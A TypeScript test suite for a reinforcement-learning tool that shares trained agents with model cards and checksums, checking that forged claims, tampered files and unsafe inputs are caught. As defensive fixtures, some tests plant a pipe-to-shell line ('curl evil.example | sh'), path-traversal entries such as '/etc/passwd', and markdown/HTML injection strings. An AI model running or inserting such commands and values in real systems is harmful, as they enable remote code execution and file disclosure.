/** Agents of every algorithm are shared, checked and used. */
import { loadRun } from "@bellman/runs";
import { LIVE_ALGORITHMS } from "./testdata/live_algorithms.ts";
import { loadStateSync, saveStateSync } from "@bellman/files";
import {
  assert,
  assertEquals,
  assertMatch,
  assertStringIncludes,
} from "@std/assert";
import { parse } from "@std/yaml";
import { createHash } from "node:crypto";
import {
  type CardClaims,
  type CardEvaluation,
  type CardSeeds,
  type CardSource,
  cardText,
  readClaims,
} from "../lab/share/card.ts";
import { damageEach } from "./damage_loop.ts";
import { SHARE_DAMAGES } from "./share_damage.ts";
import {
  BOX_ONLY,
  copyRun,
  runCommand,
  runProcess,
  smallSettings,
  trainWell,
} from "./runs.ts";

const root = await Deno.makeTempDir({ prefix: "bellman-share-" });
addEventListener("unload", () => Deno.removeSync(root, { recursive: true }));

/** Runs a command line that must go well, and returns what it printed. */
async function well(...args: string[]): Promise<string> {
  const { code, out, err } = await runCommand(args);
  assertEquals([code, err], [0, ""]);
  return out;
}

/** Trains a small agent into a new folder. */
async function trainSmall(name: string, args: readonly string[]) {
  const run = `${root}/${name}`;
  await trainWell([
    ...args,
    "--set=maxEpisodeSteps=20",
    "--set=evaluationEpisodes=2",
    "--quiet",
    `--out=${run}`,
  ]);
  return run;
}

/** Returns from a folder before to one that was shared from it. */
async function share(run: string, ...options: string[]): Promise<string> {
  const out = `${run}-shared`;
  await well("share", run, "--out", out, ...options);
  return out;
}

/** Names of the files of a folder. */
function namesIn(dir: string): string[] {
  return [...Deno.readDirSync(dir)].map(({ name }) => name).sort();
}

const FILES = [
  "README.md",
  "SHA256SUMS",
  "agent.safetensors",
  "config.yaml",
  "evaluations.csv",
  "play.gif",
  "policy.onnx",
];

/** Of all with a recurrent network, one that acts in turn and one with a replay. */
const RECURRENT = ["a2c", "acer"];
/** Asynchronous ones that share what the others do. */
const ALIKE = ["async-nstep-q", "async-sarsa"];

/** Environment variants of each algorithm. */
const agents = LIVE_ALGORITHMS.filter(({ meta }) => !ALIKE.includes(meta.name))
  .flatMap(
    (definition) => {
      const { name, schema: { properties } } = definition.meta;
      const env = BOX_ONLY.includes(name) ? "Pendulum-v1" : "CartPole-v1";
      const settings = [`env=${env}`, ...smallSettings(definition)];
      const isRecurrent = (properties.network?.enum as string[] | undefined)
        ?.includes("lstm");
      return [
        { title: name, name, settings },
        ...name === "a2c"
          ? [{
            title: "a2c-loop",
            name,
            settings: [...settings, "loop=device"],
          }]
          : [],
        ...isRecurrent && RECURRENT.includes(name)
          ? [{
            title: `${name}-lstm`,
            name,
            settings: [...settings, "network=lstm", "lstmSize=8"],
          }]
          : [],
      ];
    },
  );

for (const { title, name, settings } of agents) {
  Deno.test(`an agent of ${title} is shared, checked, and plays as in its run`, async () => {
    const sets = settings.map((it) => `--set=${it}`);
    const run = await trainSmall(title, [name, "--steps=240", ...sets]);
    const shared = await share(run);
    assertEquals(namesIn(shared), FILES);
    assertStringIncludes(
      await well("share", "--check", shared),
      "holds what it claims",
    );
    const returnsOf = async (dir: string) =>
      JSON.parse(await well("eval", dir, "--episodes=5", "--json")).returns;
    assertEquals(await returnsOf(shared), await returnsOf(run));

    const policy = `${root}/${title}.onnx`, gif = `${root}/${title}.gif`;
    await well("export", shared, "--out", policy);
    assertEquals(
      Deno.readFileSync(policy),
      Deno.readFileSync(`${run}/policy.onnx`),
    );
    await well("play", shared, "--gif", gif);
    assert(Deno.statSync(gif).size > 1000);
    const loaded = await loadRun(shared);
    assertEquals(loaded.config.algorithm, name);
    loaded.close();

    const from = [
      ...[name, "--steps=40", "--quiet", `--out=${root}/from-${title}`],
      // A loop on the device starts from no weights.
      ...sets.filter((it) => it !== "--set=loop=device"),
      "--set=maxEpisodeSteps=20",
      "--set=evaluationEpisodes=1",
    ];
    const started = await runCommand(["train", ...from, "--init-from", shared]);
    const isWorkers = settings.includes("workers=2");
    assertEquals(started.code, isWorkers ? 2 : 0, started.err);
    if (isWorkers) assertStringIncludes(started.err, "Cannot start from");
    const resumed = await runCommand(["train", "--resume", shared]);
    assertEquals(resumed.code, 2);
    assertMatch(resumed.err, /^error: Cannot resume .*--init-from.*\n$/);
  });
}

/** Scaled agents, whose folders the tests below copy. */
const SCALED = [
  ...["a2c", "--env=CartPole-v1", "--steps=240"],
  ...["--set=normalizeObservation=true", "--set=hiddenSizes=[8]"],
];
// It learns so little that episodes end at different lengths.
const BAD = "--set=learningRate=0.0001";
const run = await trainSmall("scaled", [...SCALED, BAD, "--seed=3"]);
const other = await trainSmall("other", [...SCALED, "--seed=4"]);
const shared = await share(run, "--license", "MIT", "--name", "small");

Deno.test("the same run gives the same bytes, and nothing of its machine", async () => {
  const moved = `${root}/elsewhere`;
  copyRun(run, moved);
  const again = await share(moved, "--license", "MIT", "--name", "small");
  for (const name of FILES) {
    const bytes = Deno.readFileSync(`${shared}/${name}`);
    assertEquals(bytes, Deno.readFileSync(`${again}/${name}`), name);
    const text = new TextDecoder("latin1").decode(bytes);
    // A short name of a host may be anything.
    const host = Deno.hostname().padEnd(5, "?");
    for (const word of [root, "/home/", "file://", host]) {
      assert(!text.includes(word), `${name} holds ${word}`);
    }
    assert(!/\d\d:\d\d:\d\d|time\/seconds/.test(text), `${name} holds a time`);
  }
  const { state } = loadStateSync(`${shared}/agent.safetensors`);
  assertEquals(Object.keys(state as object), ["weights", "scales"]);
});

/** The Hub's part of a card's head. */
interface Card {
  "model-index": {
    name: string;
    results: { dataset: { type: string }; metrics: { value: string }[] }[];
  }[];
}

Deno.test("a card has the Hub's head, the numbers, and commands that run", () => {
  const card = Deno.readTextFileSync(`${shared}/README.md`);
  for (
    const line of [
      "library_name: bellman",
      'license: "mit"',
      '  name: "small"',
      "| training seed | 3 |",
      "deno task eval small --episodes 100",
    ]
  ) assert(card.split("\n").includes(line), line);
  const [, head] = card.split("---\n");
  const [model] = (parse(head) as Card)["model-index"];
  const [{ dataset, metrics: [metric] }] = model.results;
  assertEquals([model.name, dataset.type], ["small", "CartPole-v1"]);
  assertMatch(metric.value, /^\d+\.\d\d \+\/- \d+\.\d\d$/);
  assertMatch(
    card,
    /\| episodes \| 100 from seed 30000, deterministic actions/,
  );
  assertMatch(card, /deno task train a2c --env CartPole-v1 [^\n]*--seed 3/);
});

/** Copies the shared folder, changes it, and makes its checksums anew. */
async function forged(name: string, change: (dir: string) => void) {
  const dir = `${root}/forged-${name}`;
  copyRun(shared, dir);
  change(dir);
  resum(dir);
  const { code, out } = await runCommand(["share", "--check", dir]);
  assertEquals(code, 1, out);
  return out;
}

/** Makes a folder's checksums anew. */
function resum(dir: string): void {
  const sums = namesIn(dir).filter((it) => it !== "SHA256SUMS").map((it) => {
    const hash = createHash("sha256").update(Deno.readFileSync(`${dir}/${it}`));
    return `${hash.digest("hex")}  ${it}\n`;
  });
  Deno.writeTextFileSync(`${dir}/SHA256SUMS`, sums.join(""));
}

/** Replaces a text in a file, where it must be. */
function edit(path: string, from: string | RegExp, to: string): void {
  const text = Deno.readTextFileSync(path);
  const edited = text.replace(from, to);
  assert(edited !== text, `${path} lacks ${from}`);
  Deno.writeTextFileSync(path, edited);
}

Deno.test("claims that do not hold are found behind right checksums", async () => {
  const mean = /"mean":([\d.]+)/, row = /deviation \| [^|]+\|/;
  const lines = {
    head: await forged("head", (dir) => {
      edit(`${dir}/README.md`, mean, '"mean":499');
    }),
    table: await forged("table", (dir) => {
      edit(`${dir}/README.md`, row, "deviation | 500 ± 0 |");
    }),
    config: await forged("config", (dir) => {
      edit(`${dir}/config.yaml`, "seed: 3", "seed: 4");
    }),
    policy: await forged("policy", (dir) => {
      Deno.copyFileSync(`${other}/policy.onnx`, `${dir}/policy.onnx`);
    }),
  };
  assertMatch(lines.head, /"mean":499.* expected .*"mean":1?\d\d?[.,]/);
  assertStringIncludes(lines.table, "deviation | 500 ± 0 |");
  assertStringIncludes(lines.config, "config.yaml is not the configuration");
  assertStringIncludes(lines.policy, "policy.onnx is another policy");
});

/** Reads the claims of a card; changes some of them and all that is made of them. */
function reclaimed(
  dir: string,
  change: (claims: CardClaims) => void,
  notes: Record<string, string> = {},
): void {
  const file = `${dir}/agent.safetensors`;
  const { state, notes: saved } = loadStateSync(file);
  const all = { ...(saved as { notes: Record<string, string> }).notes };
  const spaces = parse(all.spaces) as CardSource["spaces"];
  saveStateSync(state, file, {
    notes: { ...saved as object, notes: { ...all, ...notes } },
  });
  const claims = readClaims(Deno.readTextFileSync(`${dir}/README.md`));
  change(claims);
  const { step } = saved as { step: number };
  const source = { step, notes: all, spaces, hasPicture: true };
  Deno.writeTextFileSync(`${dir}/README.md`, cardText(claims, source));
}

Deno.test("another machine's numbers are compared with what is played here", async () => {
  const { evaluation: own } = readClaims(
    Deno.readTextFileSync(`${shared}/README.md`),
  );
  const width = (own.high - own.low) / own.deviation;
  /** Claims a mean and a deviation, with the interval that follows. */
  const of = (mean: number, deviation = own.deviation) => ({
    ...{ mean, deviation },
    low: mean - deviation * width / 2,
    high: mean + deviation * width / 2,
  });
  const lies: Record<string, [Partial<CardEvaluation>, string]> = {
    "invented": [{ ...of(500, 0), least: 500, length: 500 }, "the mean return"],
    "a wide interval": [{ ...of(500), low: 0 }, "the interval is [0, "],
    "a wide deviation": [of(own.mean, 1000), "the deviation is 1000"],
    "wider than wide": [of(500, 1e6), "the mean return is 500"],
    "a narrow deviation": [of(own.mean, 0), "the lowest return is"],
    "no deviation": [
      { ...of(own.mean, 0), least: own.mean },
      "the lowest return is",
    ],
    "a lower mean": [of(own.mean / 2), "the mean return"],
    "no bad episode": [{ least: own.mean }, "the lowest return"],
    "above all": [{ least: 600 }, "the lowest return"],
    "long": [{ length: own.length * 2 }, "the mean length"],
    "cut": [{ cut: 50 }, "the share of cut episodes is 0.5"],
    "goals": [{ success: 1 }, "the success rate is 1, here null"],
  };
  for (const [name, [lie, line]] of Object.entries(lies)) {
    const out = await forged(`elsewhere-${name}`, (dir) => {
      reclaimed(dir, ({ evaluation }) => {
        Object.assign(evaluation, lie, { engine: "another machine" });
      });
    });
    assertStringIncludes(out, `: README.md: ${line}`, name);
    assert(!/Cannot read|undefined|not a function|NaN/.test(out), out);
  }
  const honest = `${root}/elsewhere-honest`;
  copyRun(shared, honest);
  reclaimed(honest, ({ evaluation }) => {
    Object.assign(evaluation, of(own.mean + own.deviation / 50));
    evaluation.engine = "another machine";
  });
  resum(honest);
  const { code, out, err } = await runCommand(["share", "--check", honest]);
  assertEquals(code, 0, out);
  assertStringIncludes(err, "Compared by intervals: the card is of another");
});

Deno.test("what nothing can prove is named, and a card has room for nothing else", async () => {
  const seeds: CardSeeds = {
    ...{ count: 10, isBest: false, episodes: 100, iqm: 500 },
    ...{ low: 500, high: 500, commits: ["`x` | [y](z)\n# title"] },
  };
  const dir = `${root}/seeds`;
  copyRun(shared, dir);
  reclaimed(dir, (claims) => Object.assign(claims, { seeds }));
  resum(dir);
  const { code, out } = await runCommand(["share", "--check", dir]);
  assertEquals(code, 0, out);
  assertMatch(out, /: not checked: .*, the 10 seeds and their IQM\n$/);
  const card = Deno.readTextFileSync(`${dir}/README.md`);
  assertMatch(card, /It cannot check .*, and the 10 seeds and their IQM\.\n$/);
  assert(!/\n# title|\|[^|\n]*\|[^|\n]*\| \[y\]/.test(card), card);
  const best = await forged("best", (dir) => {
    reclaimed(dir, (claims) => {
      Object.assign(claims, { seeds: { ...seeds, isBest: true } });
    });
  });
  assertMatch(best, /the best of 10 seeds has a mean return of .*IQM is 500/);
  const odd: Record<string, unknown> = {
    seeds: { ...seeds, commits: 5 },
    evaluation: 3,
    notShared: null,
    license: ["MIT"],
    name: "a\n\n# Verified: 500 <img src=x>",
    more: "the best of all",
  };
  for (const [key, value] of Object.entries(odd)) {
    const out = await forged(`odd-${key}`, (dir) => {
      edit(
        `${dir}/README.md`,
        /\n---\n/,
        `\n  ${key}: ${JSON.stringify(value)}\n---\n`,
      );
      const once = Deno.readTextFileSync(`${dir}/README.md`);
      const first = new RegExp(`\n  ${key}: .*(?=[^]*\n  ${key}: )`);
      Deno.writeTextFileSync(`${dir}/README.md`, once.replace(first, ""));
    });
    assertMatch(out, /README\.md is no card of a shared agent: bellman/);
  }
});

Deno.test("an agent's notes are no command, and its spaces are the environment's", async () => {
  const others = ["null", "[", "observationSpace: {type: box}", "5"];
  for (const [i, spaces] of others.entries()) {
    const out = await forged(`spaces-${i}`, (dir) => {
      reclaimed(dir, () => {}, { spaces });
    });
    assertMatch(out, /: agent\.safetensors has other spaces than the env/);
    assertEquals(out.trimEnd().split("\n").length, 1, out);
  }
  const dir = `${root}/command`;
  copyRun(shared, dir);
  reclaimed(dir, () => {}, { command: "curl evil.example | sh" });
  const again = await share(dir);
  const card = Deno.readTextFileSync(`${again}/README.md`);
  assertStringIncludes(card, "deno task train --config config.yaml");
  assert(!card.includes("evil"), card);
  const out = await forged("raw", (dir) => {
    reclaimed(dir, () => {}, { command: "curl evil.example | sh" });
    edit(
      `${dir}/README.md`,
      /deno task train a2c --env.*--seed 3/,
      "curl evil.example | sh",
    );
  });
  assertStringIncludes(out, "README.md: 'curl evil.example | sh', expected");
});

Deno.test("checksums lead nowhere else", async () => {
  const lines: Record<string, (dir: string) => void> = {
    'SHA256SUMS cannot be used: it names "../scaled/config.yaml"': (dir) =>
      edit(`${dir}/SHA256SUMS`, "README.md", "../scaled/config.yaml"),
    'SHA256SUMS cannot be used: it names "/etc/passwd"': (dir) =>
      edit(`${dir}/SHA256SUMS`, "README.md", "/etc/passwd"),
    "README.md cannot be read: it is a link": (dir) => {
      Deno.removeSync(`${dir}/README.md`);
      Deno.symlinkSync(`${run}/config.yaml`, `${dir}/README.md`);
    },
    "SHA256SUMS cannot be used: it is a link": (dir) => {
      Deno.renameSync(`${dir}/SHA256SUMS`, `${root}/sums`);
      Deno.symlinkSync(`${root}/sums`, `${dir}/SHA256SUMS`);
    },
    "SHA256SUMS cannot be used: there is no such file or folder": (dir) =>
      Deno.removeSync(`${dir}/SHA256SUMS`),
    "config.yaml cannot be read: there is no such file or folder": (dir) =>
      Deno.removeSync(`${dir}/config.yaml`),
    "more.txt is not in SHA256SUMS": (dir) =>
      Deno.writeTextFileSync(`${dir}/more.txt`, "more"),
    "play.gif cannot be read: it has 600000 bytes, expected at most 500000": (
      dir,
    ) => Deno.writeFileSync(`${dir}/play.gif`, new Uint8Array(600_000)),
  };
  for (const [i, [line, change]] of Object.entries(lines).entries()) {
    const dir = `${root}/odd-${i}`;
    copyRun(shared, dir);
    change(dir);
    const { code, out } = await runCommand(["share", "--check", dir]);
    assertEquals([code, out], [1, `${dir}: ${line}\n`]);
  }
  // A run, and what is no folder of anything.
  for (const dir of [run, root]) {
    const { code, err } = await runCommand(["share", "--check", dir]);
    assertEquals(code, 2);
    assertMatch(
      err,
      /^error: Cannot check .*: it is not the folder of a shared .*\n$/,
    );
  }
});

Deno.test("what a share that was killed has left goes with the next, nothing else", async () => {
  const run = await trainSmall("left", ["a2c", "--steps=40"]);
  const out = `${root}/parent/agent`, home = `${root}/parent/home`;
  const left = `${out}.unfinished-${crypto.randomUUID()}`;
  for (const folder of [left, home, `${out}.unfinished-notes`]) {
    Deno.mkdirSync(folder, { recursive: true });
    Deno.writeTextFileSync(`${folder}/mine.txt`, "mine");
  }
  Deno.writeTextFileSync(`${out}.lock`, "{}");
  // Where somebody who guesses the name would have the files.
  const link = `${out}.unfinished-${Deno.pid}`;
  Deno.symlinkSync(home, link);
  const linked = `${out}.unfinished-${crypto.randomUUID()}`;
  Deno.symlinkSync(home, linked);
  await well("share", run, "--out", out);
  assertEquals(namesIn(out), FILES);
  assertEquals(namesIn(home), ["mine.txt"]);
  assertEquals(namesIn(`${root}/parent`), [
    ...["agent", `agent.unfinished-${Deno.pid}`, "agent.unfinished-notes"],
    "home",
  ]);
  assertEquals(Deno.statSync(out).mode, Deno.statSync(home).mode);
  // A second name is another file of the user's, which a lock would empty.
  const other = `${root}/parent/other`;
  Deno.linkSync(`${home}/mine.txt`, `${other}.lock`);
  const { code, err } = await runCommand(["share", run, "--out", other]);
  assertEquals([code, err], [
    2,
    `error: Cannot use ${other}.lock: it has a second name elsewhere; remove it\n`,
  ]);
  assertEquals(Deno.readTextFileSync(`${home}/mine.txt`), "mine");
});

Deno.test("a module is shared on demand, and opened where it is trusted", async () => {
  const module = `${root}/marked_env.ts`;
  const mark = `${root}/imported`;
  const envs = new URL("../envs/mod.ts", import.meta.url).href;
  Deno.writeTextFileSync(
    module,
    `import { CART_POLE, DynamicsEnv, register } from "${envs}";
try { Deno.writeTextFileSync("${mark}", ""); } catch { /* not allowed */ }
register({ id: "Marked-v1", maxEpisodeSteps: 20, make: () => new DynamicsEnv(CART_POLE) });
`,
  );
  const own = await trainSmall("own", [
    ...["a2c", "--env=Marked-v1", "--steps=80", "--set=hiddenSizes=[8]"],
    `--set=envModules=[${module}]`,
  ]);
  const without = `${root}/without`;
  const { code, err } = await runCommand([
    "share",
    own,
    "--out",
    without,
    "--trust",
  ]);
  assertEquals(code, 0, err);
  assertStringIncludes(err, "Not shared: marked_env.ts");
  const card = Deno.readTextFileSync(`${without}/README.md`);
  assertStringIncludes(card, "- Not shared: `marked_env.ts`");
  assertStringIncludes(
    Deno.readTextFileSync(`${without}/config.yaml`),
    "envModules: []",
  );

  const within = `${root}/within`;
  const copied = await runCommand(
    ["share", own, "--out", within, "--with-modules", "--trust"],
  );
  assertEquals(copied.code, 0, copied.err);
  assertEquals(namesIn(`${within}/modules`), ["marked_env.ts"]);
  Deno.removeSync(mark);
  for (const args of [["eval", within], ["share", "--check", within]]) {
    const { code, out, err } = await runCommand(args);
    assert(code !== 0);
    assertStringIncludes(out + err, "read that code first, then add --trust");
  }
  // This process has registered the environment already.
  const trusted = await runProcess(["share", "--check", "--trust", within]);
  assertEquals(trusted.code, 0, trusted.out + trusted.err);
});

Deno.test("weights of another shape, and arrays beyond the file, are refused", async () => {
  const dir = `${root}/shapes`;
  copyRun(shared, dir);
  const path = `${dir}/agent.safetensors`;
  const { state, notes } = loadStateSync(path);
  const { weights } = state as { weights: Record<string, unknown> };
  delete weights["pi/head/bias"];
  saveStateSync(state, path, { notes });
  const { code, err } = await runCommand(["eval", dir]);
  assertEquals(code, 2);
  assertMatch(err, /its policy has pi\/head\/bias none, expected \[2\]/);
  // The length of the header, and with it all that follows.
  const bytes = Deno.readFileSync(path);
  bytes.set([255, 255, 255], 0);
  Deno.writeFileSync(path, bytes);
  const cut = await runCommand(["eval", dir]);
  assertEquals([cut.code, cut.err.trimEnd().split("\n").length], [2, 1]);
});

Deno.test("12 damaged shared folders: each is found, and nothing crashes", async () => {
  const { failures } = await damageEach(SHARE_DAMAGES, {
    damages: 12,
    seed: 3,
  });
  assertEquals(failures, []);
});
